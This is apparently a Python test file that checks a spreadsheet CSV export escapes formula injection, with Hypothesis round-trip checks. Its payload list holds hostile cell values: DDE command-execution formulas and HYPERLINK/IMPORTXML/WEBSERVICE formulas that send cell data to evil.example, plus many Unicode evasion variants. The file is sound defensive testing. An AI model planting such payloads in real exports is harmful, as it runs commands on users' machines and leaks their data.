"""Whatever stands in a cell, no spreadsheet program runs it, and every program reads it back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alertbot.letters.spreadsheet import BYTE_ORDER_MARK, as_csv, harmless

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000@SUM(1)",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u2066=1+1\u2069",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "|calc",
    "%0A=1+1",
    "harmless\n=1+1",
    "harmless\r\n+1+1",
    "harmless\r@SUM(1)",
    "harmless\u2028=1+1",
    "a\n\n \t-1+1",
    '=1+1","=2+2',
    '"=1+1"'[1:],
    "=",
    "@",
)
PLAIN = (
    "Free Ainur Kurmanov",
    "Olga O'Neill",
    "1,240",
    "письмо",
    "a=b",
    "x@example.org",
    "",
    "«=1»",
    "№ 1-2",
)
STARTS = "=+-@|%＝＋－＠﹦−\t\r\n"


def read(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def visible(line: str) -> str:
    return line.strip().lstrip("\u200b\u200e\u2066\ufeff\x00\x1b").strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_be_run_is_left_at_the_beginning_of_a_line(payload: str) -> None:
    ((cell,),) = read(as_csv([[payload]]))
    assert not [line for line in cell.splitlines() if visible(line)[:1] and visible(line)[:1] in STARTS]
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=3), max_size=4)
)
def test_every_row_reads_back_cell_by_cell(rows: list[list[str]]) -> None:
    assert read(as_csv(rows)) == [[harmless(cell) for cell in row] for row in rows]


def test_numbers_stay_numbers_and_a_hidden_one_is_empty() -> None:
    assert read(as_csv([["a", 1240, None]])) == [["a", "1240", ""]]


def test_there_are_at_least_thirty_ways_to_try_it() -> None:
    assert len(set(PAYLOADS)) >= 30
